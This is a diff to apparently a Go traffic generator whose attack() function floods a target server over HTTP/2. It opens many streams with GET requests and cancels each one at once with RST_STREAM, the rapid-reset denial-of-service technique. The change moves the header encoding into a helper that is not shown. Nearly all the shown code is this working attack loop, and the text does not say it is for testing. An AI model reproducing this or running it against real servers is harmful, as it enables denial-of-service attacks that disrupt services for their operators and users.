@@ -8,7 +8,6 @@ import (
 	"time"
 
 	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 )
 
 const (
@@ -40,18 +39,13 @@ func (g *Generator) attack(ctx context.Context) error {
 	if err := nc.SetDeadline(time.Now().Add(resetPatience)); err != nil {
 		return err
 	}
-	var block bytes.Buffer
-	enc := hpack.NewEncoder(&block)
 	var out bytes.Buffer
 	out.WriteString(http2.ClientPreface)
 	f := http2.NewFramer(&out, nil)
 	_ = f.WriteSettings()
+	r := newByHand(f, g.cfg.Target)
 	for id := uint32(1); id < 2*resetStreams; id += 2 {
-		block.Reset()
-		for _, kv := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/orders/export?bytes=1"}, {":authority", g.cfg.Target}} {
-			_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
-		}
-		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true})
+		r.get(id, "/orders/export?bytes=1")
 		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
 	}
 	if _, err := nc.Write(out.Bytes()); err != nil {
